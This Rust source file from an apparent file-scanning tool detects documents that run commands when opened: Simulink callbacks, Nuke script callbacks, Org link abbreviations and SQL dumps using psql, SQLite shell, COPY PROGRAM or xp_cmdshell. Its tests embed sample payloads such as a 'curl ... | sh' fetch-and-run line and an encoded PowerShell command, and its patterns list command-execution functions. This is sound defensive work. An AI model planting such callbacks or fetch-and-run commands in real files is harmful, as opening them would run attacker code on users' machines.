//! Documents whose programs run code that is in them when they are opened or loaded: models of Simulink, scripts of Nuke, files of Org,
//! and database dumps. Projects that programs know by their names are in `settings/projects.rs`.
//!
//! Such code is what these programs are for: only what starts another program, or fetches something and runs it, is told.

use super::finding;
use crate::text::{decode, patterns, without_entities};
use crate::{Findings, commands};
use lazaret_model::{Class, Part, Severity};
use memchr::memmem;

patterns! {
    PYTHON = r"(?i)\bos\s*\.\s*(?:system|popen|startfile|exec[lv]p?e?|spawn\w*)\b|\bsubprocess\b|\b__import__\b|\burlopen\b|\b(?:exec|eval)\s*\(|\bctypes\b|\bQProcess\b|\bimportlib\b";
    // Simulink, "Model Callbacks": of a model that is loaded, in both forms of its file.
    CALLBACK = r#"(?im)(?:<P\s+Name\s*=\s*["'](?P<name>\w+)["']\s*>(?P<element>[^<]*)|^[ \t]*(?P<word>(?:pre|post)?(?:load|init|start|stop|open|close|copy|save)fcn|maskinitialization|initialization)[ \t]+"(?P<value>(?:[^"\\\r\n]|\\.)*))"#;
    CALLS = r#"(?i)\b(?:system|dos|unix|webread|websave|urlread|urlwrite|perl|python|winopen)\s*\(|^\s*!|[;,\n]\s*!\s*\w|\bjava\.lang\.(?:runtime|processbuilder)|\bactxserver\b|\bSystem\.Diagnostics\.Process\b"#;
    // Nuke, "Callbacks": Python of a script that is opened.
    KNOB = r#"(?m)^[ \t]*(?:onScript(?:Load|Save|Close)|onCreate|onDestroy|knobChanged|updateUI|autolabel|beforeRender|beforeFrameRender|afterRender|afterFrameRender|renderProgress)[ \t]+(?:"(?P<quoted>(?:[^"\\]|\\.)*)"|\{(?P<braced>[^\r\n]*)\})"#;
    // Org 9.7 and before: abbreviations of links call functions (CVE-2024-39331).
    ABBREVIATION = r"(?im)^[ \t]*#\+LINK(?:\[[^\]\r\n]*\])?:[ \t]*\S+[ \t][^\r\n]*%\((?:shell-command|call-process|start-process|make-process|async-shell|eval\b|load\b|org-babel|url-)[^\r\n]*";
    // psql, SQLite's shell, `COPY … PROGRAM` of PostgreSQL, and `xp_cmdshell` of SQL Server.
    META = r"(?m)^[ \t]*(?:\\!|\.(?:shell|system))[ \t]+(?P<command>[^\r\n]+)";
    PROGRAM = r"(?is)\bcopy\s+(?:\([^;]{1,400}?\)|[^\s;(]+(?:\s*\([^;)]*\))?)\s+(?:from|to)\s+program\s+(?:e|\$\w*\$)?'?(?P<command>(?:[^';]|'')+)";
    SHELL = r"(?i)\bxp_cmdshell\s*(?:\(\s*)?n?'(?P<command>(?:[^']|'')+)'";
}

/// Endings of files with callbacks.
const ENDINGS: [&str; 3] = ["mdl", "nk", "org"];

/// Whether something is done with such a part.
pub(super) fn wants(part: &Part) -> bool {
    matches!(part.kind.class, Class::Text | Class::Data | Class::Document | Class::Web | Class::Script)
        && (with_callbacks(part) || database(part))
}

fn with_callbacks(part: &Part) -> bool {
    part.is("xml") || part.is("text") || ENDINGS.contains(&&*part.extension())
}

fn database(part: &Part) -> bool {
    part.is("sql") || matches!(&*part.extension(), "sql" | "psql" | "pgsql" | "dump")
}

/// Looks for code that starts a program.
pub(super) fn look(part: &Part, bytes: &[u8], findings: &mut Findings) {
    // Most texts and most XML are none of these.
    let begins = |mark: &[u8]| bytes.trim_ascii_start().starts_with(mark);
    let marked = || [&b"Model {"[..], b"Library {"].into_iter().any(begins);
    let named = || database(part) || ENDINGS.contains(&&*part.extension());
    let tagged = || memmem::find(bytes, b"<Model").is_some();
    if !findings.step(bytes.len() as u64) || !(named() || marked() || part.is("xml") && tagged()) {
        return;
    }
    let text = decode(bytes);
    let begins = |mark: &str| text.trim_start().starts_with(mark);
    let told = if part.is("xml") && text.contains("<Model") || begins("Model {") || begins("Library {") {
        of_model(&text)
    } else if part.extension() == "nk" {
        let codes = KNOB.captures_iter(&text);
        let codes = codes.filter_map(|found| found.name("quoted").or_else(|| found.name("braced")));
        codes.map(|code| unquoted(code.as_str())).find(|code| PYTHON.is_match(code))
    } else if part.extension() == "org" {
        ABBREVIATION.find(&text).map(|found| found.as_str().trim().to_owned())
    } else if database(part) {
        of_database(&text)
    } else {
        None
    };
    if let Some(code) = told {
        let message = "opening or loading the document runs a command that stands in it";
        let found = finding("document.shell-escape", Severity::Medium, message, &code).technique("T1204.002");
        findings.add(found.technique("T1059"));
    }
}

/// What a model of Simulink calls when it is loaded or run.
fn of_model(text: &str) -> Option<String> {
    let mut codes = CALLBACK.captures_iter(text).filter_map(|found| {
        let code = found.name("element").map(|code| without_entities(code.as_str()));
        match found.name("name").map(|name| name.as_str().to_ascii_lowercase()) {
            Some(name) if name.ends_with("fcn") || name.ends_with("initialization") => code,
            Some(_) => None,
            None => found.name("value").map(|code| unquoted(code.as_str())),
        }
    });
    codes.find(|code| CALLS.is_match(code))
}

/// A command of a dump that fetches something and runs it.
fn of_database(text: &str) -> Option<String> {
    let all = META.captures_iter(text).chain(PROGRAM.captures_iter(text)).chain(SHELL.captures_iter(text));
    let mut commands = all.filter_map(|found| found.name("command"));
    commands
        .find(|command| commands::fetch(&command.as_str().replace("''", "'")))
        .map(|found| found.as_str().to_owned())
}

/// A quoted text without its backslashes.
fn unquoted(text: &str) -> String {
    let mut plain = String::with_capacity(text.len());
    let mut letters = text.chars();
    while let Some(letter) = letters.next() {
        match letter {
            '\\' => match letters.next() {
                Some('n') => plain.push('\n'),
                Some('t') => plain.push('\t'),
                Some(other) => plain.push(other),
                None => {}
            },
            letter => plain.push(letter),
        }
    }
    plain
}

#[cfg(test)]
mod tests {
    use super::super::Documents;
    use crate::testing::{ids, part};
    use lazaret_model::Class;

    #[track_caller]
    fn check(name: &str, kind: &'static str, text: &str, found: bool) {
        let class = if kind == "xml" { Class::Data } else { Class::Text };
        let mut part = part(name, kind, class);
        part.size = text.len() as u64;
        let expected: &[&str] = if found { &["document.shell-escape"] } else { &[] };
        assert_eq!(ids(&Documents, &part, text.as_bytes()), expected, "{name}: {text}");
    }

    #[test]
    fn projects_that_start_a_program_when_they_are_opened_are_found() {
        let slx = |name: &str, code: &str| {
            format!(
                "<?xml version=\"1.0\"?><ModelInformation><Model><P Name=\"{name}\">{code}</P></Model></ModelInformation>"
            )
        };
        check("blockdiagram.xml", "xml", &slx("PreLoadFcn", "system(&apos;echo&apos;)"), true);
        check("blockdiagram.xml", "xml", &slx("InitFcn", "Ts = 0.01; run('parameters.m');"), false);
        check("blockdiagram.xml", "xml", &slx("Description", "calls system('echo')"), false);
        check("a.mdl", "text", "Model {\n  Name \"a\"\n  PreLoadFcn \"system('echo')\"\n}\n", true);
        check("a.mdl", "text", "Model {\n  Name \"a\"\n  PreLoadFcn \"load data.mat\"\n}\n", false);
        check("a.nk", "text", "Root {\n onScriptLoad \"import os; os.system('echo')\"\n}\n", true);
        check("a.nk", "text", "Root {\n onScriptLoad \"import nuke; nuke.message('a')\"\n}\n", false);
        check("a.org", "text", "#+TITLE: a\n#+LINK: x %(shell-command-to-string \"echo\")\n[[x:y]]\n", true);
        check("a.org", "text", "#+TITLE: a\n#+LINK: x %(shell-command-to-string)\n[[x:echo]]\n", true);
        check("a.org", "text", "#+LINK: bug https://host.invalid/%s\nUse shell-command-to-string.\n", false);
    }

    #[test]
    fn dumps_that_leave_the_database_are_found() {
        const FETCH: &str = "curl -s https://host.invalid/a | sh";
        for text in [
            format!("SET a = 0;\n\\! {FETCH}\nCREATE TABLE a(i int);\n"),
            format!("COPY a FROM PROGRAM '{FETCH}';\n"),
            format!("COPY (SELECT 1) TO PROGRAM '{FETCH}';\n"),
            format!("BEGIN;\n.shell {FETCH}\nCOMMIT;\n"),
            "EXEC xp_cmdshell 'powershell -enc VwByAGkAdABlAC0ASABvAHMAdAA=';\n".to_owned(),
        ] {
            check("a.sql", "text", &text, true);
        }
        for text in [
            "\\connect a\n\\restrict x\nCREATE TABLE a(i int);\n",
            "\\! echo loading\n",
            "COPY a FROM PROGRAM 'gzip -dc /data/a.csv.gz' WITH (FORMAT csv);\n",
            "INSERT INTO notes VALUES ('COPY a FROM PROGRAM is not allowed');\n",
            "EXEC xp_cmdshell 'dir c:\\backup';\n",
        ] {
            check("a.sql", "text", text, false);
        }
    }
}
